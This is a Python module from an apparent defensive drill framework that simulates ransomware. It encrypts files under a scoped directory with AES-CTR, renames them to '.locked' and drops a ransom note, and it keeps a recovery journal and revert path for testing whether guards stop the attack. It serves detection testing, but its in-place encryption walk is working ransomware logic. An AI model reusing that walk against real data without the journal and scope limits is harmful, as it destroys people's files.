"""Ransomware simulation: encrypt files in place with a throwaway key, rename them to
``.locked``, drop a ransom note. Revert decrypts and restores the names.

Owns: the encryption walk and its recovery journal. The journal (``keyfile``, JSON lines,
mode 0600, kept outside the target) records the throwaway AES key and, per file, an
intent line *before* the file is touched and a done line after it is renamed, with the
plaintext's hash. So a run that was killed mid-way (a guard stopping it is the point of
the exercise) can still be reverted exactly: a file whose content still hashes to the
plaintext was never touched; otherwise it is decrypted and checked against that hash.

AES-CTR keeps every file's size (as real ransomware does when it encrypts in place); the
per-file nonce is in the journal. Runnable as its own process, so a guard can detect and
stop it: ``python -m bastion.drill.faults.ransomware --root DIR --keyfile K ...``.

Must never: touch a file outside its scope; encrypt more than ``max_files``; lose the key
(it is written to the journal before the first byte changes); put the key in an event.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import secrets
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from bastion.drill.faults._base import Fault
from bastion.drill.faults.scope import Scope
from bastion.errors import BastionError, NotFoundError, UsageError

if TYPE_CHECKING:
    from collections.abc import Callable

    from bastion.events import Emit


__all__ = [
    "NOTE_NAME",
    "SUFFIX",
    "Ransomware",
    "RansomwareProcess",
    "main",
    "restore_from_journal",
]

SUFFIX = ".locked"
NOTE_NAME = "README-RESTORE-FILES.txt"
_NOTE = (
    "Your files were encrypted by a Bastion ransomware DRILL (a simulation).\n"
    "Nothing left this machine. The drill's operator can restore every file with\n"
    "  python -m bastion.drill.faults.ransomware --revert --keyfile <journal>\n"
)


def _xor_ctr(key: bytes, nonce: bytes, data: bytes) -> bytes:
    # CTR is symmetric: the same call encrypts and decrypts.
    ctx = Cipher(algorithms.AES(key), modes.CTR(nonce)).encryptor()
    return ctx.update(data) + ctx.finalize()


def _digest(data: bytes) -> str:
    return hashlib.blake2b(data, digest_size=16).hexdigest()


class Ransomware(Fault):
    """Encrypt up to ``max_files`` files under ``root`` at ``files_per_s``.

    ``inject()`` runs the whole walk in the calling thread (call it in a child process
    to be stopped by a guard); ``revert()`` restores from the journal at ``keyfile``.
    ``on_file`` is called after each file is locked (for progress and tests).
    """

    kind = "ransomware.encrypt"

    def __init__(
        self,
        root: str | Path,
        *,
        scope: Scope,
        keyfile: str | Path,
        max_files: int = 100,
        files_per_s: float = 0.0,
        pattern: str = "**/*",
        note: bool = True,
        events: Emit | None = None,
        subject: str = "",
        on_file: Callable[[Path], None] | None = None,
    ) -> None:
        super().__init__(events=events, subject=subject)
        self.root = scope.check_path(root, fault=self.kind)
        if not self.root.is_dir():
            raise NotFoundError(f"{self.kind}: {self.root} is not a directory")
        self.keyfile = Path(keyfile).resolve()
        if self.keyfile.is_relative_to(self.root):
            raise UsageError(
                f"{self.kind}: the recovery journal {self.keyfile} must live outside the "
                f"target {self.root}, or the drill would encrypt its own key"
            )
        if max_files < 1:
            raise UsageError(f"{self.kind}: max_files must be at least 1")
        self.scope = scope
        self.max_files = max_files
        self.files_per_s = files_per_s
        self.pattern = pattern
        self.note = note
        self.on_file = on_file
        self.locked: list[Path] = []
        self.restored = 0

    def describe(self) -> dict[str, Any]:
        return {"root": str(self.root), "max_files": self.max_files}

    def targets(self) -> list[Path]:
        found = [
            p
            for p in sorted(self.root.glob(self.pattern))
            if p.is_file()
            and not p.is_symlink()
            and p.suffix != SUFFIX
            and p.name != NOTE_NAME
            and self.scope.contains_path(p)
        ]
        return found[: self.max_files]

    def _inject(self) -> dict[str, Any]:
        key = secrets.token_bytes(32)
        self.keyfile.parent.mkdir(parents=True, exist_ok=True)
        fd = os.open(self.keyfile, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        with os.fdopen(fd, "w") as journal:
            journal.write(json.dumps({"key": key.hex(), "root": str(self.root)}) + "\n")
            journal.flush()
            os.fsync(journal.fileno())
            if self.note:
                (self.root / NOTE_NAME).write_text(_NOTE)
            pause = 1.0 / self.files_per_s if self.files_per_s > 0 else 0.0
            for path in self.targets():
                # in scope already (targets() filters); this gives a twin's shared file
                # its own copy before it is overwritten in place (Scope.copy_up)
                self.scope.check_path(path, fault=self.kind)
                plain = path.read_bytes()
                nonce = secrets.token_bytes(16)
                entry = {"path": str(path), "nonce": nonce.hex(), "sha": _digest(plain)}
                journal.write(json.dumps({"begin": entry}) + "\n")
                journal.flush()
                os.fsync(journal.fileno())
                with path.open("r+b") as fh:
                    fh.write(_xor_ctr(key, nonce, plain))
                    fh.flush()
                    os.fsync(fh.fileno())
                locked = path.with_name(path.name + SUFFIX)
                path.rename(locked)
                journal.write(json.dumps({"done": str(path)}) + "\n")
                journal.flush()
                self.locked.append(path)
                if self.on_file is not None:
                    self.on_file(path)
                if pause:
                    time.sleep(pause)  # the attack's pace is the knob, not synchronisation
        return {"files": len(self.locked), "journal": str(self.keyfile)}

    def _revert(self) -> dict[str, Any]:
        self.restored = restore_from_journal(self.keyfile, scope=self.scope)
        return {"restored": self.restored}


def restore_from_journal(keyfile: str | Path, *, scope: Scope) -> int:
    """Undo a (possibly interrupted) ransomware run from its journal; return files restored."""
    keyfile = Path(keyfile)
    if not keyfile.is_file():
        raise NotFoundError(f"ransomware journal {keyfile} does not exist; nothing to revert")
    lines = [json.loads(line) for line in keyfile.read_text().splitlines() if line.strip()]
    if not lines or "key" not in lines[0]:
        raise UsageError(f"{keyfile}: not a ransomware drill journal (no key on line 1)")
    key = bytes.fromhex(lines[0]["key"])
    root = Path(lines[0]["root"])
    restored = 0
    for line in lines[1:]:
        entry = line.get("begin")
        if entry is None:
            continue
        path = scope.check_path(entry["path"], fault="ransomware.revert")
        locked = path.with_name(path.name + SUFFIX)
        source = locked if locked.exists() else path
        if not source.exists():
            continue
        data = source.read_bytes()
        if _digest(data) == entry["sha"]:
            plain = data  # killed before this file's bytes changed
        else:
            plain = _xor_ctr(key, bytes.fromhex(entry["nonce"]), data)
            if _digest(plain) != entry["sha"]:
                raise BastionError(
                    f"ransomware.revert: {source} does not decrypt to its recorded hash; "
                    "it was changed after the drill (leave it for the vault to restore)"
                )
        with source.open("r+b") as fh:
            fh.write(plain)
        if source != path:
            source.rename(path)
        restored += 1
    (root / NOTE_NAME).unlink(missing_ok=True)
    return restored


def main(argv: list[str] | None = None) -> int:
    """Run the simulation as its own process (a guard is expected to stop it)."""
    parser = argparse.ArgumentParser(prog="python -m bastion.drill.faults.ransomware")
    parser.add_argument("--root", help="directory to encrypt (also the scope)")
    parser.add_argument("--keyfile", required=True, help="recovery journal, outside --root")
    parser.add_argument("--max-files", type=int, default=100)
    parser.add_argument("--rate", type=float, default=0.0, help="files per second (0: flat out)")
    parser.add_argument("--pattern", default="**/*")
    parser.add_argument("--no-note", action="store_true")
    parser.add_argument("--revert", action="store_true", help="restore from --keyfile")
    parser.add_argument("--scope", action="append", default=[], help="extra scope path")
    args = parser.parse_args(argv)
    try:
        if args.revert:
            journal = json.loads(Path(args.keyfile).read_text().splitlines()[0])
            scope = Scope.of(paths=[journal["root"], *args.scope])
            print(f"restored {restore_from_journal(args.keyfile, scope=scope)} files")
            return 0
        if not args.root:
            parser.error("--root is required unless --revert")
        scope = Scope.of(paths=[args.root, *args.scope], name="ransomware")
        fault = Ransomware(
            args.root,
            scope=scope,
            keyfile=args.keyfile,
            max_files=args.max_files,
            files_per_s=args.rate,
            pattern=args.pattern,
            note=not args.no_note,
            on_file=lambda p: print(f"locked {p}", flush=True),
        )
        print(f"ransomware drill pid {os.getpid()} on {fault.root}", flush=True)
        details = fault.inject()
        print(f"locked {details['files']} files", flush=True)
        return 0
    except BastionError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return getattr(exc, "exit_code", 3)


if __name__ == "__main__":
    raise SystemExit(main())


class RansomwareProcess(Fault):
    """The same attack in its own process, as real ransomware is: a guard may detect it,
    freeze the files or kill it, and the drill survives. ``inject()`` starts it and, with
    ``wait_s``, waits up to that long for it to end; ``revert()`` kills it if still
    running and restores every file from the journal. ``pid`` joins nothing: the child
    is the drill's own."""

    kind = "ransomware.process"

    def __init__(
        self,
        root: str | Path,
        *,
        scope: Scope,
        keyfile: str | Path,
        max_files: int = 100,
        files_per_s: float = 10.0,
        pattern: str = "**/*",
        wait_s: float | None = None,
        events: Emit | None = None,
        subject: str = "",
    ) -> None:
        super().__init__(events=events, subject=subject)
        self.root = scope.check_path(root, fault=self.kind)
        self.keyfile = Path(keyfile).resolve()
        if self.keyfile.is_relative_to(self.root):
            raise UsageError(
                f"{self.kind}: the recovery journal {self.keyfile} must live outside {self.root}"
            )
        self.scope = scope
        self.max_files = max_files
        self.files_per_s = files_per_s
        self.pattern = pattern
        self.wait_s = wait_s
        self.proc: subprocess.Popen[bytes] | None = None
        self.restored = 0

    def describe(self) -> dict[str, Any]:
        return {"root": str(self.root), "max_files": self.max_files, "rate": self.files_per_s}

    @property
    def pid(self) -> int | None:
        return None if self.proc is None else self.proc.pid

    def files_locked(self) -> int:
        """Files the attack reached (journal ``begin`` lines), read from its journal."""
        if not self.keyfile.is_file():
            return 0
        return sum(1 for line in self.keyfile.read_text().splitlines() if '"begin"' in line)

    def _inject(self) -> dict[str, Any]:
        self.proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "bastion.drill.faults.ransomware",
                "--root",
                str(self.root),
                "--keyfile",
                str(self.keyfile),
                "--max-files",
                str(self.max_files),
                "--rate",
                str(self.files_per_s),
                "--pattern",
                self.pattern,
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        if self.wait_s is not None:
            with contextlib.suppress(subprocess.TimeoutExpired):
                self.proc.wait(timeout=self.wait_s)
        return {"pid": self.proc.pid}

    def _revert(self) -> dict[str, Any]:
        code = None
        if self.proc is not None:
            if self.proc.poll() is None:
                self.proc.kill()
            code = self.proc.wait(timeout=10)
        reached = self.files_locked()
        self.restored = (
            restore_from_journal(self.keyfile, scope=self.scope) if self.keyfile.is_file() else 0
        )
        return {"exit_code": code, "files_reached": reached, "restored": self.restored}
